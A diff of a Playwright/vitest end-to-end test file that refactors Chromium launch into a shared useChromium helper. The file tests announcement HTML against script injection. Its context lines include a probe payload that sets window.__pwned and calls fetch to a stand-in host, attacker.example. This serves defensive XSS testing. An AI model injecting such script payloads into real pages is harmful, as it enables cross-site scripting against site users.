@@ -1,7 +1,7 @@
-import type { Browser, Page } from 'playwright-core'
+import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { PATHS } from '../../../src/shared/paths'
-import { expectVisible, launchChromium } from '../browser'
+import { expectVisible, useChromium } from '../browser'
 import { useProductionApp } from './production-app'
 import { openPage, spaNavigate, uncaught, type OpenPage } from './support'
 
@@ -11,14 +11,7 @@ import { openPage, spaNavigate, uncaught, type OpenPage } from './support'
 // alone is what is tested.
 
 const app = useProductionApp()
-let browser: Browser
-
-beforeAll(async () => {
-  browser = await launchChromium()
-})
-afterAll(async () => {
-  await browser?.close()
-})
+const chromium = useChromium()
 
 const ATTACKER = 'attacker.example'
 const RUN = `window.__pwned = 1; fetch('https://${ATTACKER}/ran').catch(() => {})`
@@ -92,7 +85,7 @@ describe('announcement HTML payloads', () => {
   let found: Watch
 
   beforeAll(async () => {
-    open = await openPage(browser, app.url)
+    open = await openPage(chromium.browser, app.url)
     found = await watch(open)
     await open.page.goto(PATHS.news)
   }, 60_000)
